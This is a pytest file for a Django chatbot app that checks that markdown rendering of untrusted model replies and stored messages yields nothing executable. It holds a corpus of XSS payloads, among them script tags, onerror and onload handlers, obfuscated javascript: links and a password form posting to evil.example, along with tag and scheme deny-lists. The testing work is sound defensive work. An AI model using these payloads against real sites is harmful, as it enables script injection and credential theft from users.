"""Model output is untrusted: markdown rendering must never produce script, handlers, dangerous URLs or images.

Each payload is rendered by chatbot.markdown.render_markdown and the HTML parsed back (html.parser) to check
tags, attributes and URL schemes against the test's own allow-list, independent of the sanitiser's settings.
Then the same mix goes through the whole app: the fake model replies with it, and neither the SSE events nor
the conversation page carry anything executable.
"""

from __future__ import annotations

import html
import re
from html.parser import HTMLParser

import pytest
from django.urls import reverse

from chatbot.markdown import render_markdown
from conversations.models import Message
from tests.factories import ConversationFactory, MessageFactory, UserFactory

ALLOWED_TAGS = {
    "p", "br", "hr", "strong", "em", "del", "s", "code", "pre", "blockquote", "ul", "ol", "li", "a",
    "h1", "h2", "h3", "h4", "h5", "h6", "table", "thead", "tbody", "tr", "th", "td", "span", "div", "sup",
}  # fmt: skip
ALLOWED_ATTRIBUTES = {"href", "title", "class", "start", "rel"}
FORBIDDEN_TAGS = {
    "script", "iframe", "object", "embed", "style", "form", "input", "button", "meta", "link", "base", "img",
    "svg", "math", "video", "audio", "source", "details", "textarea", "frame", "frameset", "applet", "template",
}  # fmt: skip
SAFE_SCHEMES = {"http", "https", "mailto"}
_CONTROL_OR_SPACE = re.compile(r"[\x00-\x20\x7f-\x9f]")
_SCHEME = re.compile(r"^([a-zA-Z][a-zA-Z0-9+.\-]*):")
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "data", "xlink:href", "poster", "background", "srcset"}


class Collector(HTMLParser):
    """Every start tag with its attributes (values already HTML-unescaped by the parser), and text per tag."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []
        self.stack: list[str] = []
        self.code_text: list[str] = []
        self.script_text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list) -> None:
        self.tags.append((tag, attrs))
        self.stack.append(tag)

    def handle_startendtag(self, tag: str, attrs: list) -> None:
        self.tags.append((tag, attrs))

    def handle_endtag(self, tag: str) -> None:
        if tag in self.stack:
            while self.stack.pop() != tag:
                pass

    def handle_data(self, data: str) -> None:
        if "code" in self.stack:
            self.code_text.append(data)
        if self.stack and self.stack[-1] == "script":
            self.script_text.append(data)


def collect(fragment: str) -> Collector:
    parser = Collector()
    parser.feed(fragment)
    parser.close()
    return parser


def url_scheme(value: str) -> str | None:
    """The scheme a browser would see: entities already decoded by the parser, whitespace and controls removed."""
    cleaned = _CONTROL_OR_SPACE.sub("", value)
    match = _SCHEME.match(cleaned)
    return match.group(1).lower() if match else None


def url_problems(tags) -> list[str]:
    problems = []
    for tag, attrs in tags:
        for name, value in attrs:
            name = name.lower()
            if name.startswith("on"):
                problems.append(f"<{tag}> has an event handler {name}={value!r}")
            if name == "style":
                problems.append(f"<{tag}> has a style attribute")
            if name in URL_ATTRIBUTES and value is not None:
                scheme = url_scheme(value)
                if scheme is not None and scheme not in SAFE_SCHEMES:
                    problems.append(f"<{tag} {name}={value!r}> uses the {scheme}: scheme")
    return problems


def assert_safe_fragment(fragment: str) -> Collector:
    """The strict check for rendered markdown."""
    parsed = collect(fragment)
    problems = url_problems(parsed.tags)
    for tag, attrs in parsed.tags:
        if tag not in ALLOWED_TAGS:
            problems.append(f"<{tag}> is not allowed")
        problems += [
            f"<{tag} {name}> is not an allowed attribute" for name, _ in attrs if name not in ALLOWED_ATTRIBUTES
        ]
    assert "<img" not in fragment.lower()
    assert not problems, f"{problems}\nin: {fragment}"
    return parsed


def assert_safe_page(page: str) -> Collector:
    """The check for a whole page or a rendered bubble: the app's own markup is allowed, nothing executable."""
    parsed = collect(page)
    problems = url_problems(parsed.tags)
    for tag, attrs in parsed.tags:
        values = dict(attrs)
        if tag == "script":
            if not (values.get("src") or "").startswith("/static/"):
                problems.append(f"a script that is not one of the app's files: {attrs}")
        elif tag == "meta" and "http-equiv" in values:
            problems.append(f"<meta http-equiv>: {attrs}")
        elif tag in FORBIDDEN_TAGS - {"meta", "link", "form", "input", "button", "details", "textarea"}:
            problems.append(f"<{tag}> is not allowed")
        elif tag == "form" and not (values.get("action") or values.get("hx-post") or "/").startswith("/"):
            problems.append(f"a form posting elsewhere: {attrs}")
        elif tag == "link" and not (values.get("href") or "").startswith("/static/"):
            problems.append(f"a link to an external resource: {attrs}")
        problems += [f"<{tag} {name}={value!r}>" for name, value in attrs if (value or "").startswith("javascript")]
    assert "".join(parsed.script_text).strip() == "", "no inline script"
    assert "<img" not in page.lower()
    assert not problems, "\n".join(problems)
    return parsed


def markdown_bodies(page: str) -> list[str]:
    """The inner HTML of each <div class="markdown"> (the rendered model output) in a page."""
    bodies, start = [], 0
    opener = '<div class="markdown">'
    while (index := page.find(opener, start)) != -1:
        depth, cursor = 1, index + len(opener)
        while depth:
            next_open = page.find("<div", cursor)
            next_close = page.find("</div>", cursor)
            assert next_close != -1, "unbalanced markdown div"
            if next_open != -1 and next_open < next_close:
                depth, cursor = depth + 1, next_open + 4
            else:
                depth, cursor = depth - 1, next_close + 6
        bodies.append(page[index + len(opener) : cursor - 6])
        start = cursor
    return bodies


PAYLOADS = [
    # Raw HTML: script, handlers, active content.
    "<script>alert(1)</script>",
    "<SCRIPT SRC=http://evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<a href="#" onclick="alert(1)">click</a>',
    '<div onmouseover="alert(1)" style="position:fixed;inset:0">hover</div>',
    "<details open ontoggle=alert(1)>",
    '<iframe src="https://evil.example/"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    "<style>body { display: none }</style>",
    '<form action="https://evil.example/steal"><input name="password"><button>Log in</button></form>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<base href="https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<a href="javascript&colon;alert(1)">x</a>',
    "<!--<img src=x onerror=alert(1)>-->",
    "<div>\n<script>alert(1)</script>\n</div>",  # a raw HTML block
    "Inline <img src=x onerror=alert(1)> in a sentence and [ok](https://ok.example)<svg onload=alert(1)>",
    # Markdown links and images with dangerous schemes.
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](<javascript:alert(1)>)",
    "[click](vbscript:msgbox(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[click](file:///etc/passwd)",
    "<javascript:alert(1)>",
    "<vbscript:msgbox(1)>",
    "<data:text/html,<script>alert(1)</script>>",
    "[x](jav&#x09;ascript:alert(1))",
    "[x](jav&#x0A;ascript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](%6Aavascript:alert(1))",
    "![x](http://evil.example/p.png)",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    '![x"onerror="alert(1)](https://evil.example/p.png)',
    "[x][evil]\n\n[evil]: javascript:alert(1)",
    '[x][ok]\n\n[ok]: https://ok.example "a\\" onclick=\\"alert(1)"',
    '[x](https://ok.example "a\\" onmouseover=\\"alert(1)")',
    '<https://ok.example/"onmouseover="alert(1)>',
    # Nested markdown.
    "**[bold](javascript:alert(1))**",
    "> quoted [x](javascript:alert(1)) <script>alert(1)</script>",
    "- [*item*](javascript:alert(1))\n  - <img src=x onerror=alert(1)>",
    "| a | b |\n|---|---|\n| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |",
    "`<img src=x onerror=alert(1)>` and ``<script>``",
    "```html\n<script>alert(1)</script>\n<img src=x onerror=alert(1)>\n```",
    "```\n<iframe src=javascript:alert(1)></iframe>\n```",
    "```not-a-language\n<svg onload=alert(1)>\n```",
    "    <script>alert('indented code')</script>",
]


def test_the_corpus_is_large_enough():
    assert len(PAYLOADS) >= 25


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_payload_renders_to_nothing_executable(payload):
    rendered = render_markdown(payload)
    assert_safe_fragment(rendered)
    for marker in ("<script", "<iframe", "<object", "<embed", "<style", "<form", "<meta", "<svg", "<math", "<base"):
        assert marker not in rendered.lower()


@pytest.mark.parametrize(
    ("payload", "code"),
    [
        (
            "```html\n<script>alert(1)</script>\n<img src=x onerror=alert(1)>\n```",
            "<script>alert(1)</script>\n<img src=x onerror=alert(1)>\n",
        ),
        ("```\n<iframe src=javascript:alert(1)></iframe>\n```", "<iframe src=javascript:alert(1)></iframe>\n"),
        ("```not-a-language\n<svg onload=alert(1)>\n```", "<svg onload=alert(1)>\n"),
        ("`<img src=x onerror=alert(1)>`", "<img src=x onerror=alert(1)>"),
    ],
    ids=["html-fence", "plain-fence", "unknown-language", "inline-code"],
)
def test_html_in_code_is_shown_as_text_inside_code(payload, code):
    rendered = render_markdown(payload)
    parsed = assert_safe_fragment(rendered)
    assert "".join(parsed.code_text) == code, "the code is shown verbatim (escaped), not dropped"
    assert [tag for tag, _ in parsed.tags if tag in {"script", "img", "iframe", "svg"}] == []


def test_raw_html_is_shown_as_text_not_dropped():
    rendered = render_markdown("Look: <script>alert(1)</script>")
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in rendered


def test_images_become_links_and_unsafe_ones_lose_their_url():
    external = collect(render_markdown("![diagram](https://evil.example/p.png)"))
    assert external.tags[-1] == (
        "a",
        [("href", "https://evil.example/p.png"), ("rel", "nofollow noopener noreferrer")],
    )
    unsafe = render_markdown("![pic](data:image/png;base64,AAAA)")
    assert "[image: pic]" in unsafe and "data:" not in unsafe


def test_link_titles_with_quotes_stay_inside_the_attribute():
    parsed = collect(render_markdown('[x](https://ok.example "say \\"hi\\" onclick=alert(1)")'))
    attrs = next(a for t, a in parsed.tags if t == "a")
    assert dict(attrs)["title"] == 'say "hi" onclick=alert(1)'
    assert {name for name, _ in attrs} == {"href", "title", "rel"}


# --- Benign markdown still renders ----------------------------------------------------------------------------

BENIGN = """# Title

## Section

Some **bold**, *italic* and ~~struck~~ text with `inline code`.

1. first
2. second

- bullet
- another

| Name | Value |
|------|------:|
| a    | 1     |

> a quote

[docs](https://docs.example/page?a=1&b=2) and [mail](mailto:someone@example.com) and [here](/c/)

```python
def greet(name):
    return f"Hello {name}"
```
"""


def test_benign_markdown_renders():
    rendered = render_markdown(BENIGN)
    parsed = assert_safe_fragment(rendered)
    tags = [tag for tag, _ in parsed.tags]
    for tag in ("h1", "h2", "strong", "em", "s", "ol", "ul", "li", "table", "thead", "tbody", "th", "td",
                "blockquote", "pre", "code", "a"):  # fmt: skip
        assert tag in tags, tag
    assert "<h1>Title</h1>" in rendered and "<strong>bold</strong>" in rendered
    assert '<code class="language-python">' in rendered
    assert '<span class="k">def</span>' in rendered and '<span class="nf">greet</span>' in rendered
    links = {dict(attrs)["href"]: dict(attrs) for tag, attrs in parsed.tags if tag == "a"}
    assert set(links) == {"https://docs.example/page?a=1&b=2", "mailto:someone@example.com", "/c/"}
    assert links["https://docs.example/page?a=1&b=2"]["rel"] == "nofollow noopener noreferrer"
    assert "".join(parsed.code_text).startswith("inline code")
    assert 'def greet(name):\n    return f"Hello {name}"' in "".join(parsed.code_text)


def test_the_checker_itself_catches_what_it_must():
    """The checks above would fail on unsafe HTML (so a passing test means something)."""
    for unsafe in (
        '<a href="java&#x09;script:alert(1)">x</a>',
        '<a href=" JAVASCRIPT:alert(1)">x</a>',
        '<p onclick="x">x</p>',
        '<p style="color:red">x</p>',
        "<img src=x>",
        "<svg></svg>",
    ):
        with pytest.raises(AssertionError):
            assert_safe_fragment(unsafe)
    with pytest.raises(AssertionError):
        assert_safe_page('<script>alert(1)</script><script src="/static/js/app.js"></script>')


# --- End to end: the model's reply through SSE and the page; a stored user message ------------------------------

REPLY_MIX = "\n\n".join(
    [
        "Here you go:",
        "<script>alert('reply')</script>",
        "<img src=x onerror=alert(1)>",
        "[click](javascript:alert(1))",
        "[x](jav&#x09;ascript:alert(1))",
        '<a href="javascript&colon;alert(1)">x</a>',
        "![x](http://evil.example/p.png)",
        "<iframe src=https://evil.example/></iframe>",
        '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
        "[ref][evil]\n\n[evil]: javascript:alert(1)",
        "```html\n<script>alert('code')</script>\n```",
        "**Safe bold** and [docs](https://docs.example/)",
    ]
)


@pytest.mark.slow
def test_a_malicious_reply_is_escaped_in_deltas_and_sanitised_in_the_bubble_and_page(live_client, fake_anthropic):
    from tests.test_chat_streaming import reply_of, start_chat, with_key

    client = live_client(with_key(UserFactory()))
    fake_anthropic.behaviour.reply = REPLY_MIX
    conversation, url = start_chat(client, "Show me some HTML <script>alert('user')</script>")
    events = list(client.events(url))
    deltas = [e.data for e in events if e.event == "delta"]
    assert deltas, "the reply streamed"
    for data in deltas:
        assert "<" not in data and ">" not in data, f"a delta is escaped text: {data!r}"
    assert html.unescape("".join(deltas)) == REPLY_MIX
    assert any("&lt;script&gt;alert(&#x27;reply&#x27;)&lt;/script&gt;" in data for data in deltas)

    done = events[-1]
    assert done.event == "done"
    assert_safe_page(done.data)
    [body] = markdown_bodies(done.data)
    assert_safe_fragment(body)
    assert "<strong>Safe bold</strong>" in body and 'href="https://docs.example/"' in body
    assert "&lt;script&gt;alert('reply')&lt;/script&gt;" in body, "shown as text"

    message = reply_of(conversation)
    assert message.status == Message.Status.COMPLETE and message.content == REPLY_MIX, "stored verbatim"

    page = client.get(f"/c/{conversation.id}/")
    assert page.status_code == 200
    assert_safe_page(page.text)
    bodies = markdown_bodies(page.text)
    assert len(bodies) == 1
    assert_safe_fragment(bodies[0])
    assert "&lt;script&gt;alert(&#x27;user&#x27;)&lt;/script&gt;" in page.text, "the user's message is escaped"
    assert "<script>alert(" not in page.text


def test_a_stored_user_message_with_html_is_escaped_everywhere_it_appears(user, user_client):
    payload = "<script>alert('stored')</script></textarea><img src=x onerror=alert(1)><svg onload=alert(1)> findme"
    conversation = ConversationFactory(user=user, title="<svg onload=alert('title')>")
    message = MessageFactory(conversation=conversation, role="user", content=payload)
    reply = MessageFactory(
        conversation=conversation, role="assistant", parent=message, content="<img src=x onerror=alert(2)>"
    )
    conversation.active_leaf = reply
    conversation.save(update_fields=["active_leaf"])

    for url in (
        reverse("conversations:detail", args=[conversation.id]),
        reverse("conversations:index"),
        reverse("conversations:search") + "?q=findme",
    ):
        response = user_client.get(url)
        assert response.status_code == 200
        page = response.content.decode()
        assert_safe_page(page)
        assert "&lt;svg onload=alert(&#x27;title&#x27;)&gt;" in page, f"the title is shown escaped on {url}"
        if url != reverse("conversations:index"):
            assert "&lt;script&gt;alert(&#x27;stored&#x27;)&lt;/script&gt;&lt;/textarea&gt;" in page, url
    page = user_client.get(reverse("conversations:detail", args=[conversation.id])).content.decode()
    assert "&lt;img src=x onerror=alert(2)&gt;" in page, "the assistant's raw HTML is shown as text"
    textareas = re.findall(r"<textarea[^>]*>(.*?)</textarea>", page, flags=re.S)
    assert any(payload == html.unescape(text) for text in textareas), "the edit box holds the text, escaped"
